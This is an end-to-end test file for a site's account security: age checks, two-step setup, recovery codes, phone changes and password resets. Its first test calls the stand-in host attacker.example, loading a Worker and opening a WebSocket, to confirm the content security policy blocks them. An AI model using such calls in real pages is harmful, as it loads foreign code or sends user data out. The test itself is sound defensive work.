import { type DemoMember, demoMembers } from '@fairground/testkit/demo/world'
import { getMails } from '@fairground/testkit/services/sandbox'
import { until } from '@fairground/testkit/server/until'
import { TOTP } from 'otpauth'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { phonePage, securityPage } from './pages/account.ts'
import { header } from './pages/header.ts'
import { loginModal } from './pages/login-modal.ts'
import { forgotPassword, newPassword } from './pages/passwords.ts'
import { registration } from './pages/registration.ts'
import { stepUpModal } from './pages/step-up-modal.ts'
import { newVisitor } from './support/browser.ts'
import { waitToPressAgain } from './support/press-again.ts'
import { waitForCode, waitForLink } from './support/sent-messages.ts'
import { useSiteWorld } from './support/site-world.ts'
import { isShort } from './support/short-run.ts'

const member: DemoMember = demoMembers[0]!
const world = useSiteWorld('security', () => ({ members: [member], crowd: 0 }))
const address = (path = '/') => world().address(member, path)

const nora = { username: 'nora_b', email: 'nora.bell@mail.example', password: 'wisteria-crescent-14' }
const firstPhone = '+447400123456'
const secondPhone = '+447400123499'

const open = async (width: number, path: string) => {
  const { context, errors } = await newVisitor(world().browser, width, { calm: true })
  const page = await context.newPage()
  await page.goto(address(path))
  return { page, errors }
}

const waitForMail = (subject: RegExp) =>
  until(`a mail: ${subject}`, async () => {
    const mails = await getMails(world().stack.sandbox, nora.email)
    return mails.find(mail => subject.test(mail.subject))
  })

const changePhone = async (page: Page, number: string): Promise<void> => {
  const mobile = page.getByRole('main').getByRole('group', { name: 'Mobile number' })
  await mobile.getByLabel('Number').fill(number)
  await page.getByRole('main').getByRole('button', { name: 'Save number' }).click()
}

describe('a foreign script in the page', () => {
  it('cannot write markup, start a foreign worker or send data to another host', async () => {
    const { page } = await open(1280, '/')
    const refusals = await page.evaluate(async () => {
      const tryTo = (act: () => unknown) => {
        try {
          act()
          return 'allowed'
        } catch (error) {
          return (error as Error).name
        }
      }
      const blocked = new Promise<string>(resolve =>
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
          if (blockedURI.startsWith('wss://')) resolve(effectiveDirective)
        }),
      )
      const markup = tryTo(() => (document.body.innerHTML = '<img src=x>'))
      const worker = tryTo(() => new Worker('https://attacker.example/worker.js'))
      tryTo(() => new WebSocket('wss://attacker.example/'))
      return { markup, worker, socket: await blocked }
    })
    expect(refusals).toEqual({ markup: 'TypeError', worker: 'TypeError', socket: 'connect-src' })
  })
})

describe('the registration', () => {
  it('explains an under-age date of birth, offers support and forgives it after a day', async () => {
    const { page, errors } = await open(390, '/?signup=true')
    const join = page.getByRole('dialog', { name: /^Join / })
    await join.getByLabel('Username').fill('typo_tom')
    await join.getByLabel('Email').fill('tom@mail.example')
    await join.getByLabel('Password', { exact: true }).fill(nora.password)
    await join.getByLabel('Country').selectOption('GB')
    for (const [part, value] of [
      ['Day', '7'],
      ['Month', '3'],
      ['Year', '2019'],
    ] as const)
      await join.getByLabel(part).fill(value)
    await join.getByRole('checkbox', { name: /I accept/ }).check()
    await join.getByRole('button', { name: 'Join', exact: true }).click()
    const refused = page.getByRole('dialog', { name: 'You must be 18 or older' })
    await refused.getByText(/try again in 24 hours/).waitFor()
    await refused.getByRole('button', { name: 'Contact us' }).click()
    await page.waitForURL(/\/contact$/)
    await page.goto(address('/?signup=true'))
    await refused.waitFor()
    await page.evaluate(() => localStorage.setItem('fairground.tooYoungUntil', String(Date.now() - 1)))
    await page.goto(address('/?signup=true'))
    await join.getByLabel('Username').waitFor()
    expect(errors).toEqual([])
  }, 120_000)
})

describe.skipIf(isShort)('a player', () => {
  it('is protected at registration, login and every sensitive change', async () => {
    const { stack } = world()
    const { page, errors } = await open(1280, '/?signup=true')
    const join = page.getByRole('dialog', { name: /^Join / })
    await join.getByLabel('Password', { exact: true }).fill('liverpool1')
    await join.getByText('That password is easy to guess or has been leaked. Choose another one.').waitFor()
    await registration(page).join(nora)
    await registration(page).finish({ phone: '07400 123456' })
    await registration(page).done.getByRole('button', { name: 'Not now' }).click()

    await page.goto(address('/account/phone'))
    await phonePage(page).requestCode()
    await phonePage(page).typeCode(await waitForCode(stack.sandbox, firstPhone))
    await phonePage(page).verifiedSince.waitFor()
    await changePhone(page, '07400 123499')
    await stepUpModal(page).prove('not-the-password-1')
    await stepUpModal(page).dialog.getByText('That password is not correct.').waitFor()
    await waitToPressAgain(page)
    await stepUpModal(page).prove(nora.password)
    const code = page.getByRole('dialog', { name: 'Verify your phone' })
    await code.getByRole('button', { name: 'Text me the code' }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByText(/replaces this number once you enter its code/).waitFor()
    await page.getByRole('main').getByText('+44 7400 123456').waitFor()
    await page.getByRole('main').getByRole('button', { name: 'Verify the new number' }).click()
    await code.getByRole('button', { name: 'Text me the code' }).click()
    await phonePage(page).typeCode(await waitForCode(stack.sandbox, secondPhone))
    await page.getByRole('main').getByText('+44 7400 123499').waitFor()
    expect((await waitForMail(/phone number was changed/)).text).toContain('3499')

    await page.goto(address('/account/password'))
    await securityPage(page).setUpApp(nora.password, secret => new TOTP({ secret }).generate())
    const shown = page.getByRole('dialog', { name: 'Your recovery codes' })
    const codes = await shown.getByRole('listitem').allInnerTexts()
    expect(codes).toHaveLength(10)
    await shown.getByRole('button', { name: 'I’ve saved my codes' }).click()
    await page.getByText('10 codes left. Each code works once.').waitFor()
    await waitForMail(/Two-step verification is on/)

    const away = await open(390, '/?login=true')
    const pocket = away.page
    for (const [name, password] of [
      ['no such name', 'x'],
      [nora.username, 'x'],
      ['unknown@mail.example', 'long-enough-12'],
    ] as const) {
      await loginModal(pocket).logIn(name, password)
      await loginModal(pocket).dialog.getByText('That username or password isn’t right.').waitFor()
      await waitToPressAgain(pocket)
    }
    await loginModal(pocket).logIn(nora.email.toUpperCase(), nora.password)
    await pocket.getByRole('button', { name: 'Use a recovery code' }).click()
    await pocket.getByLabel('Recovery code').fill(codes[0]!.toLowerCase())
    await pocket.getByRole('button', { name: 'Confirm' }).click()
    await header(pocket).balance.waitFor()
    await waitForMail(/recovery code was used/)
    await pocket.goto(address('/account/password'))
    await pocket.getByText('9 codes left. Each code works once.').waitFor()

    await page.goto(address('/?forgot=true'))
    await forgotPassword(page).requestLink(nora.email)
    await page.goto(await waitForLink(stack.sandbox, nora.email, /Choose a new password/))
    await newPassword(page).choose('another-long-one-2')
    await pocket.getByText('You were signed out because your password was changed.').waitFor()
    await waitForMail(/password was reset/)
    expect([...errors, ...away.errors]).toEqual([])
  }, 300_000)
})
